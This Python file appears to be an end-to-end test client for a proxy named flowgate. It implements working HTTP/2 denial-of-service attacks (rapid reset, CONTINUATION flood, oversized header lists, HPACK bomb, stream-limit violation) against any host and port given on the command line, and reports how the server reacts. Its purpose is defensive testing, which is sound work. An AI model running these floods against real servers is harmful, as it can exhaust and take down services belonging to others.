"""HTTP/2 abuse client for the flowgate e2e tests: rapid reset, CONTINUATION flood, huge header list, HPACK bomb, too many streams (h2c prior knowledge).

Outbound frames come from h2's H2Connection where it is willing to emit them (normal, rapid-reset,
header-list) and are built by hand otherwise (continuation-flood, hpack-bomb, too-many-streams). Inbound frames are
parsed by hand for every mode, so the reader never chokes on replies to streams h2 does not know.

Usage: h2_attacks.py ATTACK --host H --port P [--authority A] [--path /] [options]
Prints one JSON object on stdout (last line); exits 0 whenever the attack ran.
"""

import argparse
import json
import signal
import socket
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
from hpack import Decoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20
MAX_FRAME = 16384  # every peer must accept frames this large
LIST_LIMIT = 20


def log(*args):
    print(*args, file=sys.stderr, flush=True)


# ---------------------------------------------------------------------------------------
# Hand-built frames and HPACK (RFC 9113 section 4, RFC 7541 sections 5 and 6).

def frame(ftype, flags, stream_id, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + stream_id.to_bytes(4, "big") + payload


def count_frames(data):
    n = i = 0
    while i + 9 <= len(data):
        n += 1
        i += 9 + int.from_bytes(data[i:i + 3], "big")
    return n


def hpack_int(value, prefix_bits, flags):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([flags | value])
    out = [flags | limit]
    value -= limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(raw):
    return hpack_int(len(raw), 7, 0) + raw  # no Huffman


def literal(name, value, indexing=False):
    """Literal header with a new name: 0x40 adds it to the dynamic table, 0x00 does not."""
    return bytes([0x40 if indexing else 0x00]) + hpack_str(name) + hpack_str(value)


def request_block(authority, path, post=False):
    """GET (or POST) pseudo-headers that leave the peer's dynamic table untouched."""
    block = (b"\x83" if post else b"\x82") + b"\x86"  # :method GET/POST, :scheme http (static table)
    block += b"\x84" if path == "/" else hpack_int(4, 4, 0) + hpack_str(path.encode())
    return block + hpack_int(1, 4, 0) + hpack_str(authority.encode())


def header_frames(stream_id, block, end_stream):
    """A complete header block as HEADERS + CONTINUATION frames."""
    chunks = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    out = b""
    for n, chunk in enumerate(chunks):
        flags = END_HEADERS if n == len(chunks) - 1 else 0
        if n == 0:
            out += frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream_id, chunk)
        else:
            out += frame(CONTINUATION, flags, stream_id, chunk)
    return out


def h2_request_headers(args):
    return [(":method", "GET"), (":scheme", "http"), (":authority", args.authority), (":path", args.path)]


def h2_client():
    return h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))


# ---------------------------------------------------------------------------------------
# One connection: the main thread writes, a reader thread records what the peer does.

class PeerGone(Exception):
    pass


class Session:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.settimeout(2)
        self.lock = threading.Lock()
        self.stopping = False
        self.finished = threading.Event()  # GOAWAY received or connection closed
        self.settings_received = threading.Event()
        self.peer_settings = {}
        self.goaway = False
        self.goaway_error = None
        self.last_stream_id = None
        self.resets = []
        self.reset_codes = {}  # error code -> RST_STREAM count (resets is capped, this is not)
        self.responses = []
        self.response_count = 0
        self.ended = set()  # streams the peer ended or reset
        self.closed_by_peer = False
        self.send_blocked = False
        self.frames_sent = 0
        self.bytes_sent = 0
        self.errors = []
        self.extra = {}  # attack-specific report keys, kept even if the attack is cut short
        self.decoder = Decoder()
        self.decoder.max_header_list_size = 1 << 30
        self.block = bytearray()
        # Started by send_preface: nothing (e.g. a SETTINGS ACK) may go out before our preface.
        self.reader = threading.Thread(target=self._read_loop, daemon=True)

    def send(self, data, frames=None):
        if not data:
            return
        with self.lock:
            try:
                self.sock.sendall(data)
            except socket.timeout:
                self.send_blocked = True
                raise PeerGone("send timed out: peer stopped reading")
            except OSError as e:
                if not self.stopping:
                    self.closed_by_peer = True
                self.finished.set()
                raise PeerGone(f"send failed: {e}")
            self.bytes_sent += len(data)
            self.frames_sent += count_frames(data) if frames is None else frames

    def send_preface(self, data=None):
        """Our preface: h2's initiate_connection() output, or a bare preface + SETTINGS."""
        data = data or PREFACE + frame(SETTINGS, 0, 0, (2).to_bytes(2, "big") + (0).to_bytes(4, "big"))
        self.send(data, frames=count_frames(data[len(PREFACE):]))
        self.reader.start()

    def wait(self, seconds, until=lambda: False):
        """Wait until GOAWAY/close, until() is true, or seconds pass."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.finished.is_set() and not until():
            time.sleep(0.02)
        if self.goaway and not self.closed_by_peer:
            deadline = time.monotonic() + 1  # give the peer a moment to close after GOAWAY
            while time.monotonic() < deadline and not self.closed_by_peer:
                time.sleep(0.02)

    def close(self):
        self.stopping = True
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        if self.reader.is_alive():
            self.reader.join(timeout=3)
        self.sock.close()

    def _read_loop(self):
        buf = bytearray()
        while not self.stopping:
            try:
                chunk = self.sock.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                if not self.stopping:
                    self.closed_by_peer = True
                self.finished.set()
                return
            buf += chunk
            while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
                length = int.from_bytes(buf[:3], "big")
                ftype, flags = buf[3], buf[4]
                stream_id = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                payload = bytes(buf[9:9 + length])
                del buf[:9 + length]
                try:
                    self._on_frame(ftype, flags, stream_id, payload)
                except PeerGone:
                    pass
                except Exception as e:  # a broken reply is a finding, not a crash
                    self.errors.append(f"frame type {ftype} on stream {stream_id}: {e!r}")

    def _on_frame(self, ftype, flags, stream_id, payload):
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                self.peer_settings[int.from_bytes(payload[i:i + 2], "big")] = int.from_bytes(payload[i + 2:i + 6], "big")
            self.settings_received.set()
            self.send(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif ftype == GOAWAY:
            self.goaway = True
            self.last_stream_id = int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF
            self.goaway_error = int.from_bytes(payload[4:8], "big")
            log(f"GOAWAY last_stream_id={self.last_stream_id} error={self.goaway_error} debug={payload[8:200]!r}")
            self.finished.set()
        elif ftype == RST_STREAM:
            self.ended.add(stream_id)
            code = int.from_bytes(payload[0:4], "big")
            self.reset_codes[code] = self.reset_codes.get(code, 0) + 1
            if len(self.resets) < LIST_LIMIT:
                self.resets.append([stream_id, code])
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                pad = payload[0] if flags & PADDED else 0
                payload = payload[(1 if flags & PADDED else 0) + (5 if flags & PRIORITY else 0):len(payload) - pad]
                if flags & END_STREAM:
                    self.ended.add(stream_id)
            self.block += payload
            if flags & END_HEADERS:
                headers = dict(self.decoder.decode(bytes(self.block), raw=True))
                self.block.clear()
                if b":status" in headers:
                    self.response_count += 1
                    if len(self.responses) < LIST_LIMIT:
                        self.responses.append(int(headers[b":status"]))
        elif ftype == DATA:
            if flags & END_STREAM:
                self.ended.add(stream_id)
            if payload:  # hand back flow-control credit so bodies never stall
                inc = len(payload).to_bytes(4, "big")
                updates = frame(WINDOW_UPDATE, 0, 0, inc)
                if stream_id not in self.ended:
                    updates += frame(WINDOW_UPDATE, 0, stream_id, inc)
                self.send(updates)


# ---------------------------------------------------------------------------------------
# Attacks. Each records its own report keys in s.extra.

def attack_normal(s, args):
    conn = h2_client()
    conn.initiate_connection()
    s.send_preface(conn.data_to_send())
    conn.send_headers(1, h2_request_headers(args), end_stream=True)
    s.send(conn.data_to_send())
    s.wait(args.seconds, until=lambda: 1 in s.ended)


def attack_rapid_reset(s, args):
    conn = h2_client()
    conn.initiate_connection()
    s.send_preface(conn.data_to_send())
    s.extra["requests_sent"] = 0
    stream_id = 1
    while s.extra["requests_sent"] < args.count and not s.finished.is_set():
        batch = min(args.batch, args.count - s.extra["requests_sent"])
        for _ in range(batch):
            conn.send_headers(stream_id, h2_request_headers(args), end_stream=True)
            conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
            stream_id += 2
        s.send(conn.data_to_send())
        s.extra["requests_sent"] += batch
    s.wait(args.seconds)


def attack_continuation_flood(s, args):
    s.send_preface()
    s.send(frame(HEADERS, END_STREAM, 1, request_block(args.authority, args.path)))  # no END_HEADERS
    unit = literal(b"x-flood", b"a" * args.header_size)
    pending = bytearray()
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline and not s.finished.is_set():
        batch = bytearray()
        while len(batch) < (1 << 16):
            while len(pending) < args.frame_size:
                pending += unit
            batch += frame(CONTINUATION, 0, 1, bytes(pending[:args.frame_size]))  # never END_HEADERS
            del pending[:args.frame_size]
        s.send(bytes(batch))
    s.wait(max(0.5, deadline - time.monotonic()))


def attack_header_list(s, args):
    conn = h2_client()
    conn.initiate_connection()
    s.send_preface(conn.data_to_send())
    headers, total, i = h2_request_headers(args), 0, 0
    while total < args.size:
        name = f"x-big-{i:05d}"
        value = "v" * max(1, min(args.header_size, args.size - total - len(name)))
        headers.append((name, value))
        total += len(name) + len(value)
        i += 1
    s.extra.update(decoded_size=total, header_count=i)
    conn.send_headers(1, headers, end_stream=True)
    s.send(conn.data_to_send())
    s.wait(args.seconds, until=lambda: 1 in s.ended)


def attack_hpack_bomb(s, args):
    s.send_preface()
    s.settings_received.wait(2)
    table = s.peer_settings.get(1, 4096)  # SETTINGS_HEADER_TABLE_SIZE
    name = b"x-bomb"
    value_len = min(args.header_size, table - 32 - len(name))
    if value_len < 1:
        raise RuntimeError(f"peer header table size {table} leaves no room for a bomb entry")
    # Request 1 puts the entry into the peer's table; it is index 62, the first dynamic slot.
    first = hpack_int(table, 5, 0x20) + request_block(args.authority, args.path) + literal(name, b"b" * value_len, indexing=True)
    s.send(header_frames(1, first, end_stream=True))
    bomb = request_block(args.authority, args.path) + bytes([0x80 | 62]) * args.refs
    s.extra.update(wire_block_size=len(bomb), decoded_size_per_request=args.refs * (len(name) + value_len))
    streams = [1 + 2 * n for n in range(1, args.count + 1)]
    for stream_id in streams:
        if s.finished.is_set():
            break
        s.send(header_frames(stream_id, bomb, end_stream=True))
    s.wait(args.seconds, until=lambda: all(sid in s.ended for sid in [1] + streams))


def attack_too_many_streams(s, args):
    """Open --count streams at once, ignoring SETTINGS_MAX_CONCURRENT_STREAMS (h2 would refuse to).

    Each is a POST whose HEADERS lack END_STREAM, so its body stays pending and the stream stays
    open; the peer should refuse those past its limit with RST_STREAM REFUSED_STREAM (7).
    """
    s.send_preface()
    s.settings_received.wait(2)
    s.extra["peer_max_concurrent_streams"] = s.peer_settings.get(3)  # None: not advertised (unlimited)
    s.extra["streams_opened"] = 0
    s.extra["refused"] = lambda: s.reset_codes.get(7, 0)  # read when the report is written
    block = request_block(args.authority, args.path, post=True)
    if not args.no_content_length:
        block += hpack_int(28, 4, 0) + hpack_str(b"1")  # content-length: 1 (static name, not indexed)
    streams = [1 + 2 * n for n in range(args.count)]
    for stream_id in streams:
        if s.finished.is_set():
            break
        s.send(header_frames(stream_id, block, end_stream=False))
        s.extra["streams_opened"] += 1
    s.wait(args.seconds, until=lambda: all(sid in s.ended for sid in streams))


ATTACKS = {
    "normal": attack_normal,
    "rapid-reset": attack_rapid_reset,
    "continuation-flood": attack_continuation_flood,
    "header-list": attack_header_list,
    "hpack-bomb": attack_hpack_bomb,
    "too-many-streams": attack_too_many_streams,
}


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("attack", choices=sorted(ATTACKS), help="also accepted as --attack NAME")
    p.add_argument("--host", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--authority", help="default HOST:PORT")
    p.add_argument("--path", default="/")
    p.add_argument("--seconds", type=float,
                   help="flood duration / wait for the peer's reaction (5; too-many-streams: 3)")
    p.add_argument("--count", type=int,
                   help="rapid-reset: requests (2000); hpack-bomb: bomb requests (10); too-many-streams: streams (20)")
    p.add_argument("--no-content-length", action="store_true",
                   help="too-many-streams: send no content-length (default: content-length: 1)")
    p.add_argument("--batch", type=int, default=500, help="rapid-reset: requests per write")
    p.add_argument("--frame-size", type=int, default=MAX_FRAME,
                   help="continuation-flood: payload bytes per CONTINUATION (0 = empty frames)")
    p.add_argument("--header-size", type=int,
                   help="value size of one header: flood literal (4096), header-list (1024), bomb entry (4000)")
    p.add_argument("--size", type=int, default=128 << 10, help="header-list: decoded header list size")
    p.add_argument("--refs", type=int, default=4000, help="hpack-bomb: dynamic-table references per request")
    p.add_argument("--timeout", type=float, default=30, help="hard limit for the whole run")
    args = p.parse_args(sys.argv[1:] if "--attack" not in sys.argv else _positional_from_flag(sys.argv[1:]))
    args.authority = args.authority or f"{args.host}:{args.port}"
    args.frame_size = max(0, min(args.frame_size, MAX_FRAME))
    if args.count is None:
        args.count = {"hpack-bomb": 10, "too-many-streams": 20}.get(args.attack, 2000)
    if args.seconds is None:
        args.seconds = 3 if args.attack == "too-many-streams" else 5
    if args.header_size is None:
        args.header_size = {"continuation-flood": 4096, "header-list": 1024}.get(args.attack, 4000)

    result = {"attack": args.attack, "goaway": False, "goaway_error": None, "last_stream_id": None,
              "resets_received": [], "responses": [], "response_count": 0, "closed_by_peer": False,
              "frames_sent": 0, "bytes_sent": 0, "seconds": 0.0, "error": None}

    def on_alarm(*_):
        raise TimeoutError(f"hard timeout of {args.timeout}s reached")
    signal.signal(signal.SIGALRM, on_alarm)
    signal.setitimer(signal.ITIMER_REAL, args.timeout)

    start = time.monotonic()
    s = None
    try:
        s = Session(args.host, args.port)
        try:
            ATTACKS[args.attack](s, args)
        except PeerGone as e:
            log(f"stopped sending: {e}")
            s.wait(1)
    except Exception as e:
        result["error"] = f"{type(e).__name__}: {e}"
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        if s is not None:
            s.close()
            result.update({"goaway": s.goaway, "goaway_error": s.goaway_error, "last_stream_id": s.last_stream_id,
                           "resets_received": s.resets, "responses": s.responses,
                           "response_count": s.response_count, "closed_by_peer": s.closed_by_peer,
                           "send_blocked": s.send_blocked, "frames_sent": s.frames_sent,
                           "bytes_sent": s.bytes_sent,
                           **{k: v() if callable(v) else v for k, v in s.extra.items()}})
            if s.errors and not result["error"]:
                result["error"] = "; ".join(s.errors[:5])
    result["seconds"] = round(time.monotonic() - start, 3)
    print(json.dumps(result), flush=True)


def _positional_from_flag(argv):
    """Allow `--attack NAME` in place of the positional ATTACK."""
    i = argv.index("--attack")
    name = argv[i + 1] if i + 1 < len(argv) else ""
    return [name] + argv[:i] + argv[i + 2:]


if __name__ == "__main__":
    main()
